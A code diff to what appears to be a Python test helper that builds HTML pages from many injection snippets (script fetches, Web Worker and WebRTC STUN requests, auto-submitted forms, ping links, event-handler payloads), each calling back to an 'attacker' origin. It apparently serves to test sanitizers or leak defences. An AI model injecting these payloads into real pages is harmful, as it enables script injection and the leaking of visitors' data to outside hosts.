@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from collections.abc import Callable
+
 HEAD: dict[str, str] = {
     "link-stylesheet": '<link rel=stylesheet href="{}">',
     "style-import": '<style>@import "{}";</style>',
@@ -50,7 +52,7 @@ HEAD: dict[str, str] = {
     "script-top": "<script>setTimeout(()=>{{try{{top.location='{}'}}catch(e){{}}}},50)</script>",
     "script-open": "<script>open('{}')</script>",
     "script-worker": "<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{}')\"])))</script>",
-    "script-rtc": "<script>new RTCPeerConnection({{iceServers:[{{urls:'stun:'+'{}'.split('/')[2]}}]}}).createDataChannel('x')</script>",
+    "script-rtc": "<script>const p=new RTCPeerConnection({{iceServers:[{{urls:'stun:'+'{}'.split('/')[2]}}]}});p.createDataChannel('x');p.createOffer().then(o=>p.setLocalDescription(o))</script>",
 }
 BODY: dict[str, str] = {
     "img-src": '<img src="{}">',
@@ -92,7 +94,7 @@ BODY: dict[str, str] = {
     "style-binding": "<div style=\"-moz-binding:url({});behavior:url({})\">x</div>",
     "form-submit": '<form action="{}" id=fs><input name=a value=b></form><script>fs.submit()</script>',
     "form-autofocus": "<input autofocus onfocus=\"fetch('{}')\">",
-    "form-formaction": '<button formaction="{}" id=fa form=fs>x</button><script>fa.click()</script>',
+    "form-formaction": '<form><button formaction="{}" id=fa>x</button></form><script>fa.click()</script>',
     "ping": '<a href="#x" ping="{}" id=pa>x</a><script>pa.click()</script>',
     "onload": "<svg onload=\"fetch('{}')\"></svg>",
     "ontoggle": "<details open ontoggle=\"fetch('{}')\">x</details>",
@@ -128,12 +130,16 @@ BODY: dict[str, str] = {
 PIECES = HEAD | BODY
 
 
-def piece(kind: str, attacker: str) -> str:
-    address = f"{attacker}/{kind}"
+Where = str | Callable[[str], str]
+"""The attacker's origin, or that of each kind."""
+
+
+def piece(kind: str, attacker: Where) -> str:
+    address = f"{attacker if isinstance(attacker, str) else attacker(kind)}/{kind}"
     return PIECES[kind].format(*(address for _ in range(PIECES[kind].count("{}"))))
 
 
-def page(attacker: str, *, kinds: tuple[str, ...] = tuple(PIECES)) -> str:
+def page(attacker: Where, *, kinds: tuple[str, ...] = tuple(PIECES)) -> str:
     """The kinds that swallow what follows stand last."""
     greedy = ("mxss-", "noscript", "comment", "conditional", "iso-2022", "utf-7", "css-comment", "css-string", "nul-", "base-", "meta-")
     order = sorted(kinds, key=lambda k: k.startswith(greedy))
